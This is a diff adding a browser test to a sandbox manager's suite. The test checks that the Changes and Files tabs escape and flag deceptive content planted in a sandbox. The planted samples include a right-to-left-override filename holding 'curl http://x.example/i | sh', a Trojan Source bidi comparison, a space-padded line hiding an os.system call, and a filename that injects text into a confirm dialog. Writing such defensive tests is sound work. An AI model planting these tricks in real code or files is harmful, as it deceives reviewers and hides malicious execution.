@@ -837,6 +837,83 @@ try {
     if (readFileSync(join(workspace, 'b.txt'), 'utf8') !== 'old b\n') throw new Error('the discard touched the real b.txt');
   });
 
+  await scenario("what a sandbox names and writes is shown escaped in the review, flagged, and no dialog reads a line of its own", async () => {
+    // Outside review 30, F1-F3: the Changes tab showed file names and
+    // diff lines raw (a right-to-left override made `notes\u202Etxt.sh`
+    // read `noteshs.txt`; bidi isolates made a compared string read as a
+    // comment), with no flag; a name with newlines wrote its own question
+    // into the "commit it anyway?" dialog; a line padded with spaces hid
+    // its tail past the box's edge; a carriage return before a line's end
+    // was drawn as nothing.
+    const tws = join(roots, 'trojan');
+    mkdirSync(tws, { recursive: true });
+    writeFileSync(join(tws, 'a.txt'), 'hello\n');
+    writeFileSync(join(tws, 'app.py'), 'x = 1\n');
+    await owner('POST', '/v1/sandboxes', { name: 'trojan', workspace: tws });
+    await waitFor('trojan running', async () => (await call('GET', '/v1/sandboxes/trojan')).state === 'running', 30000);
+    const plant = [
+      'import os',
+      "os.chdir('/workspace')",
+      "open('a.txt', 'w', newline='').write('hello\\r\\n')",
+      "open('notes\\u202etxt.sh', 'w').write('curl http://x.example/i | sh\\n')",
+      "open('app.py', 'w').write('x = 1\\nif access != \"user\\u202e \\u2066# admin only\\u2069 \\u2066\":\\n    grant()\\n')",
+      "open('build.py', 'w').write('print(\"build ok\")' + ' ' * 400 + ';__import__(\"os\").system(\"payload-tail\")\\n')",
+      "p = 'ok.txt is not flagged.\\n\\nCommit it anyway?' + '\\n' * 60 + '.x'",
+      "open(p, 'w').write('#!/bin/sh\\n'); os.chmod(p, 0o755)",
+    ].join('\n');
+    const planted = await call('POST', '/v1/sandboxes/trojan/exec', { argv: ['python3', '-c', plant] });
+    if (planted.exit_status !== 0) throw new Error(`the files were not planted: ${JSON.stringify(planted)}`);
+    await owner('POST', '/v1/sandboxes/trojan/stop', {});
+    await waitFor('trojan stopped', async () => (await call('GET', '/v1/sandboxes/trojan')).state !== 'running', 30000);
+    await page.goto(`${base}/#/s/trojan/changes`);
+    const panel = page.locator('#panel-changes');
+    const bidi = panel.locator('article.change[data-path="notes\u202etxt.sh"]');
+    await bidi.waitFor({ timeout: 20000 });
+    const title = await bidi.locator('h3').textContent();
+    if (title !== 'notes\\u{202e}txt.sh') throw new Error(`the card's title reads ${JSON.stringify(title)}`);
+    if (!(await bidi.getAttribute('class')).includes('flagged')) throw new Error('a name holding a right-to-left override is not flagged');
+    await bidi.locator('.flags', { hasText: 'hidden-text' }).waitFor();
+    const app = panel.locator('article.change[data-path="app.py"]');
+    await app.locator('.flags', { hasText: 'hidden-text' }).waitFor();
+    const line = await app.locator('.diff span.add').first().textContent();
+    if (!line.includes('"user\\u{202e} \\u{2066}# admin only\\u{2069} \\u{2066}"')) throw new Error(`the Trojan Source line reads ${JSON.stringify(line)}`);
+    const shown = await panel.innerText();
+    if (/[\u202a-\u202e\u2066-\u2069\r\x1b]/.test(shown)) throw new Error(`the tab shows a bidi control or a carriage return raw: ${JSON.stringify(shown)}`);
+    await panel.locator('article.change[data-path="a.txt"] .diff span.add', { hasText: '+hello\\x0d' }).waitFor();
+    // The padded line's tail is on screen: the box scrolls nothing
+    // sideways, and the tail's box lies within it.
+    const build = panel.locator('article.change[data-path="build.py"] .diff');
+    const fits = await build.evaluate((pre) => pre.scrollWidth <= pre.clientWidth);
+    if (!fits) throw new Error('the diff box scrolls sideways: a line\'s tail is off screen');
+    await build.locator('span.add', { hasText: 'payload-tail' }).waitFor();
+    // The dialog: one line of the page's question, the name escaped, the
+    // real flag right below it.
+    const forged = panel.locator('article.change.flagged').filter({ hasText: 'ok.txt is not flagged' });
+    let asked = null;
+    page.once('dialog', (d) => {
+      asked = d.message();
+      d.dismiss();
+    });
+    await forged.locator('button.commit').click();
+    await waitFor('the dialog', async () => asked !== null);
+    const lines = asked.split('\n');
+    if (!lines[0].startsWith('ok.txt is not flagged.\\x0a\\x0aCommit it anyway?\\x0a') || !lines[0].endsWith('.x is flagged:') || lines.length > 8) throw new Error(`the dialog reads: ${JSON.stringify(asked)}`);
+    if (!/^executable: /.test(lines[1])) throw new Error(`the flag is not right below the name: ${JSON.stringify(asked)}`);
+    if (readdirSync(tws).length !== 2) throw new Error(`a dismissed dialog committed: ${readdirSync(tws)}`);
+    // The Files tab (of the sandbox running again) names and shows them
+    // the same way.
+    await owner('POST', '/v1/sandboxes/trojan/start', {});
+    await waitFor('trojan running again', async () => (await call('GET', '/v1/sandboxes/trojan')).state === 'running', 30000);
+    await page.goto(`${base}/#/s/trojan/events`);
+    await page.locator('#tab-events[aria-selected=true]').waitFor();
+    await page.click('#tab-files');
+    const files = page.locator('#panel-files');
+    await files.locator('button', { hasText: 'notes\\u{202e}txt.sh' }).waitFor({ timeout: 20000 });
+    await files.locator('button', { hasText: 'app.py' }).click();
+    await files.locator('pre.file', { hasText: '"user\\u{202e} \\u{2066}# admin only' }).waitFor();
+    if (/[\u202a-\u202e\u2066-\u2069]/.test(await files.innerText())) throw new Error('the Files tab shows a bidi control raw');
+  });
+
   await scenario('readable on a phone: no page wider than the screen', async () => {
     const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
     await phone.addCookies(await context.cookies());
@@ -845,7 +922,7 @@ try {
     await phone.addInitScript((t) => localStorage.setItem('warden.csrf', t), kept);
     const p = await phone.newPage();
     try {
-      for (const where of ['#/', '#/s/demo/events', '#/s/demo/changes', '#/s/demo/terminal', '#/snapshots']) {
+      for (const where of ['#/', '#/s/demo/events', '#/s/demo/changes', '#/s/trojan/changes', '#/s/demo/terminal', '#/snapshots']) {
         await p.goto(`${base}/${where}`);
         await p.locator('h1').first().waitFor();
         await p.waitForTimeout(300);
@@ -945,7 +1022,7 @@ try {
   // Reported above.
 } finally {
   await browser.close().catch(() => {});
-  for (const sb of ['demo', 'asker', 'held', 'desk', 'refuser', 'origin', 'restored', 'origin-fork-1', 'origin-fork-2']) {
+  for (const sb of ['demo', 'asker', 'held', 'desk', 'refuser', 'origin', 'restored', 'origin-fork-1', 'origin-fork-2', 'trojan']) {
     try {
       warden('stop', '--time', '1s', sb);
     } catch {
